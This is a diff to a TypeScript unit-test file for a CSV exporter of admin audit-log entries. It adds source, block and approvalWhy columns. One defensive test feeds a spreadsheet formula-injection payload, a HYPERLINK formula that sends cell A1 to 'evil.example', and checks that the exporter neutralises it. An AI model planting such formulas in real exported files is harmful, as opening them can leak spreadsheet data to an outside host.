@@ -65,8 +65,11 @@ const entry = (over: Partial<AuditEntry> = {}): AuditEntry => ({
     { id: 'u2', upn: 'gwen_fabrikam.com#EXT#@contoso.onmicrosoft.com' },
   ],
   reason: 'lost laptop',
-  detail: 'group:"Migration Wave 1"',
+  detail: 'picked by Bob from 2 users named "Lee"',
   conversationId: '19:abc@thread.tacv2',
+  source: 'group:"Migration Wave 1"',
+  block: true,
+  approvalWhy: 'bulk; over 10 users',
   ...over,
 });
 
@@ -133,6 +136,9 @@ describe('auditToCsv', () => {
       'reason',
       'detail',
       'conversationId',
+      'source',
+      'block',
+      'approvalWhy',
     ]);
     expect(rows).toHaveLength(3);
     expect(rows[1]).toEqual([
@@ -145,8 +151,11 @@ describe('auditToCsv', () => {
       '',
       '',
       'lost laptop',
-      'group:"Migration Wave 1"',
+      'picked by Bob from 2 users named "Lee"',
       '19:abc@thread.tacv2',
+      'group:"Migration Wave 1"',
+      'true',
+      'bulk; over 10 users',
     ]);
     expect(rows[2].slice(1, 5)).toEqual(['confirmed', 'req-1', 'bbbb', 'Bob']);
     expect(csv.endsWith('\r\n')).toBe(true);
@@ -167,6 +176,9 @@ describe('auditToCsv', () => {
           reason: undefined,
           detail: undefined,
           conversationId: undefined,
+          source: undefined,
+          block: undefined,
+          approvalWhy: undefined,
         }),
       ),
     );
@@ -182,36 +194,35 @@ describe('auditToCsv', () => {
       '',
       '',
       '',
+      '',
+      '',
+      '',
     ]);
   });
 
   it('tolerates entries missing what the type promises (an old or hand-edited log)', () => {
     const odd = { at: '2026-11-22T12:00:00Z', event: 'expired' } as unknown as AuditEntry;
-    expect(parseCsv(auditCsvRow(odd))[0]).toEqual([
-      '2026-11-22T12:00:00Z',
-      'expired',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-    ]);
+    expect(parseCsv(auditCsvRow(odd))[0]).toEqual(['2026-11-22T12:00:00Z', 'expired', ...Array(12).fill('')]);
   });
 
   it('user text with commas, quotes, line breaks and formulas round-trips, guarded, in its own cell', () => {
     const nasty = '=HYPERLINK("https://evil.example?"&A1,"x"), then\r\n"more"';
     const rows = parseCsv(
-      auditToCsv([entry({ reason: nasty, detail: '+cmd', actor: { id: '@id', name: '-Ada, "the" admin' } })]),
+      auditToCsv([
+        entry({
+          reason: nasty,
+          detail: '+cmd',
+          source: nasty,
+          actor: { id: '@id', name: '-Ada, "the" admin' },
+        }),
+      ]),
     );
     expect(rows).toHaveLength(2);
     expect(rows[1][3]).toBe("'@id");
     expect(rows[1][4]).toBe(`'-Ada, "the" admin`);
     expect(rows[1][8]).toBe(`'${nasty}`);
     expect(rows[1][9]).toBe("'+cmd");
+    expect(rows[1][11]).toBe(`'${nasty}`);
     // no cell, once read, starts with a formula character
     for (const cell of rows[1]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
